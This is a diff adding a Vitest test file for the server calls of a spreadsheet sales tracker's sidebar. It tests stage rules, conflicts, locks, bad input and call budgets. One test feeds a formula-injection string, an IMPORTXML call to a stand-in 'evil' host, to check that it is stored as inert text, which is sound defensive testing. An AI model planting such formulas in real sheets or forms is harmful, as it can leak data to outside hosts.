@@ -1,0 +1,266 @@
+// The sidebar's server calls in the local runtime: rules, conflicts, locks, bad input, call budgets.
+import { describe, expect, it } from 'vitest';
+import { fields } from '../../src/domain/fields';
+import { column, manager, runtimeWith, seller, sheetOf, textGrid } from '../support/tracker';
+
+const headers = fields.map((f) => f.header.en);
+
+async function tracker(rows = 3) {
+  const rt = await runtimeWith([
+    sheetOf('Opportunities', [
+      headers,
+      ...Array.from({ length: rows }, (_, i) => [
+        `OPP-${String(i + 1).padStart(6, '0')}`,
+        `Deal ${i + 1}`,
+        `Customer ${i + 1}`,
+        i % 2 === 0 ? seller : manager,
+        'New',
+        1000 * (i + 1),
+      ]),
+    ]),
+  ]);
+  rt.run('setUpTracker');
+  return rt;
+}
+
+type Envelope =
+  | { ok: true; data: any }
+  | { ok: false; error: { code: string; message: string; details?: any } };
+
+function rpc(rt: Awaited<ReturnType<typeof tracker>>, method: string, payload: unknown): Envelope {
+  return rt.run('rpc', method, payload) as Envelope;
+}
+
+function deal(rt: Awaited<ReturnType<typeof tracker>>, id = 'OPP-000001') {
+  const result = rpc(rt, 'getDeal', { id });
+  if (!result.ok) throw new Error(result.error.message);
+  return result.data;
+}
+
+describe('rpc: stage moves', () => {
+  it('moves a deal to Proposal, writes the cells and History, and returns the new view', async () => {
+    const rt = await tracker();
+    const view = deal(rt);
+    const moved = rpc(rt, 'moveStage', { id: 'OPP-000001', version: view.version, to: 'Proposal' });
+    expect(moved.ok).toBe(true);
+    expect(column(rt, 'Opportunities', 'Stage')[0]).toBe('Proposal');
+    expect(column(rt, 'Opportunities', 'In stage since')[0]).toBe('2026-11-23');
+    expect(textGrid(rt, 'History').at(-1)?.slice(1)).toEqual([
+      seller,
+      'OPP-000001',
+      'stage',
+      'New',
+      'Proposal',
+    ]);
+  });
+
+  it('refuses Lost without a reason, as a RULE the sidebar can show, and writes nothing', async () => {
+    const rt = await tracker();
+    const before = rt.snapshot();
+    const result = rpc(rt, 'moveStage', {
+      id: 'OPP-000001',
+      version: deal(rt).version,
+      to: 'Lost',
+    });
+    expect(result).toMatchObject({
+      ok: false,
+      error: { code: 'RULE', details: { code: 'lostReasonRequired' } },
+    });
+    expect(rt.snapshot()).toEqual(before);
+  });
+
+  it('asks for a note when the reason is Other', async () => {
+    const rt = await tracker();
+    const result = rpc(rt, 'moveStage', {
+      id: 'OPP-000001',
+      version: deal(rt).version,
+      to: 'Lost',
+      lostReason: 'Other',
+    });
+    expect(result).toMatchObject({ ok: false, error: { details: { code: 'lostNoteRequired' } } });
+    const done = rpc(rt, 'moveStage', {
+      id: 'OPP-000001',
+      version: deal(rt).version,
+      to: 'Lost',
+      lostReason: 'Other',
+      lostNote: 'Went in-house',
+    });
+    expect(done.ok).toBe(true);
+    expect(column(rt, 'Opportunities', 'Lost reason')[0]).toBe('Other');
+    expect(column(rt, 'Opportunities', 'Closed on')[0]).toBe('2026-11-23');
+  });
+});
+
+describe('rpc: concurrency', () => {
+  it('refuses a stale version with a CONFLICT that carries the current row', async () => {
+    const rt = await tracker();
+    const seen = deal(rt);
+    rt.setUser(manager);
+    rt.edit('Opportunities', 'F2', 5000);
+    rt.setUser(seller);
+    const result = rpc(rt, 'setNextAction', {
+      id: 'OPP-000001',
+      version: seen.version,
+      nextAction: 'Call',
+      nextActionDate: '2026-11-25',
+      nextActionGoal: 'Budget',
+    });
+    expect(result).toMatchObject({
+      ok: false,
+      error: { code: 'CONFLICT', details: { deal: { amount: 5000 } } },
+    });
+    expect(column(rt, 'Opportunities', 'Next action')[0]).toBe('');
+  });
+
+  it('answers BUSY when another execution holds the document lock, and writes nothing', async () => {
+    const rt = await tracker();
+    const view = deal(rt);
+    const before = rt.snapshot();
+    rt.holdLock('document');
+    const result = rpc(rt, 'moveStage', {
+      id: 'OPP-000001',
+      version: view.version,
+      to: 'Qualified',
+    });
+    expect(result).toMatchObject({ ok: false, error: { code: 'BUSY' } });
+    expect(rt.snapshot()).toEqual(before);
+  });
+
+  it('finds the deal by ID after someone sorted the sheet', async () => {
+    const rt = await tracker();
+    const view = deal(rt, 'OPP-000003');
+    rt.run('rpc', 'selectDeal', { id: 'OPP-000001' });
+    // Reverse the rows as a user sort would.
+    rt.edit('Opportunities', 'A2:C4', [
+      ['OPP-000003', 'Deal 3', 'Customer 3'],
+      ['OPP-000002', 'Deal 2', 'Customer 2'],
+      ['OPP-000001', 'Deal 1', 'Customer 1'],
+    ]);
+    const moved = rpc(rt, 'moveStage', {
+      id: 'OPP-000003',
+      version: deal(rt, 'OPP-000003').version,
+      to: 'Qualified',
+    });
+    expect(moved.ok).toBe(true);
+    expect(view.row).toBe(4);
+    expect(column(rt, 'Opportunities', 'Stage')[0]).toBe('Qualified');
+  });
+});
+
+describe('rpc: bad input', () => {
+  it('rejects an unknown method and a malformed payload with a clear message', async () => {
+    const rt = await tracker();
+    expect(rpc(rt, 'dropTables', {})).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
+    const bad = rpc(rt, 'setNextAction', {
+      id: 'OPP-000001',
+      version: 'x',
+      nextAction: 1,
+      nextActionDate: '2026-02-30',
+    });
+    expect(bad).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
+    if (!bad.ok) expect(bad.error.message).toMatch(/nextActionDate/);
+  });
+
+  it('stores a formula typed in the sidebar as text, never as a formula', async () => {
+    const rt = await tracker();
+    const result = rpc(rt, 'setNextAction', {
+      id: 'OPP-000001',
+      version: deal(rt).version,
+      nextAction: '=IMPORTXML("http://evil","//a")',
+      nextActionDate: null,
+      nextActionGoal: '+1',
+    });
+    expect(result.ok).toBe(true);
+    const sheet = rt.snapshot().sheets.find((s) => s.name === 'Opportunities');
+    const columnIndex = headers.indexOf('Next action');
+    const cell = sheet?.rows[1]?.[columnIndex];
+    expect(cell?.formula).toBeUndefined();
+    expect(cell?.value).toBe('=IMPORTXML("http://evil","//a")');
+    expect(column(rt, 'Opportunities', 'Next action goal')[0]).toBe('+1');
+  });
+
+  it('reports NOT_FOUND for a deleted deal', async () => {
+    const rt = await tracker();
+    expect(rpc(rt, 'getDeal', { id: 'OPP-999999' })).toMatchObject({
+      ok: false,
+      error: { code: 'NOT_FOUND' },
+    });
+  });
+});
+
+describe('rpc: create, my day and the weekly review', () => {
+  it('creates a deal owned by the current user with a fresh ID', async () => {
+    const rt = await tracker();
+    const created = rpc(rt, 'createDeal', {
+      name: 'New fleet',
+      customer: 'Delta',
+      amount: 12000,
+      closeDate: '2027-01-31',
+      nextAction: 'Intro call',
+      nextActionDate: '2026-11-24',
+      nextActionGoal: 'Needs',
+    });
+    expect(created).toMatchObject({
+      ok: true,
+      data: { deal: { id: 'OPP-000004', owner: seller, stage: 'New' }, row: 5 },
+    });
+    expect(column(rt, 'Opportunities', 'Opportunity').at(-1)).toBe('New fleet');
+  });
+
+  it("lists the current user's deals without a next action in My day", async () => {
+    const rt = await tracker();
+    const day = rpc(rt, 'myDay', {});
+    expect(day.ok && day.data.noNextAction.map((d: { id: string }) => d.id)).toEqual([
+      'OPP-000001',
+      'OPP-000003',
+    ]);
+  });
+
+  it('stamps Last reviewed and records the review', async () => {
+    const rt = await tracker();
+    const queue = rpc(rt, 'reviewQueue', { mine: true });
+    expect(queue.ok && queue.data.queue.length).toBe(2);
+    const reviewed = rpc(rt, 'reviewDeal', {
+      id: 'OPP-000001',
+      version: deal(rt).version,
+      nextAction: 'Call back',
+      nextActionDate: '2026-11-30',
+      nextActionGoal: 'Decision date',
+      closeDate: '2026-12-31',
+    });
+    expect(reviewed).toMatchObject({ ok: true, data: { changed: true, flagged: false } });
+    expect(column(rt, 'Opportunities', 'Last reviewed')[0]).toBe('2026-11-23');
+    expect(textGrid(rt, 'History').at(-1)?.slice(3)).toEqual(['review', '', 'updated']);
+  });
+});
+
+describe('rpc: service-call budgets (constant in the number of rows)', () => {
+  it.each(['getDeal', 'moveStage', 'setNextAction', 'selection'] as const)(
+    '%s costs the same at 10 and 2,000 rows',
+    async (method) => {
+      const costs: number[] = [];
+      for (const rows of [10, 2000]) {
+        const rt = await tracker(rows);
+        const view = deal(rt);
+        const payloads: Record<string, unknown> = {
+          getDeal: { id: 'OPP-000001' },
+          moveStage: { id: 'OPP-000001', version: view.version, to: 'Qualified' },
+          setNextAction: {
+            id: 'OPP-000001',
+            version: view.version,
+            nextAction: 'Call',
+            nextActionDate: '2026-11-25',
+            nextActionGoal: '',
+          },
+          selection: {},
+        };
+        rt.select('Opportunities', 'B2');
+        rt.ledger.reset();
+        expect(rpc(rt, method, payloads[method]).ok).toBe(true);
+        costs.push(rt.ledger.count());
+      }
+      expect(costs[1]).toBe(costs[0]);
+      expect(costs[0]).toBeLessThanOrEqual(50);
+    },
+  );
+});
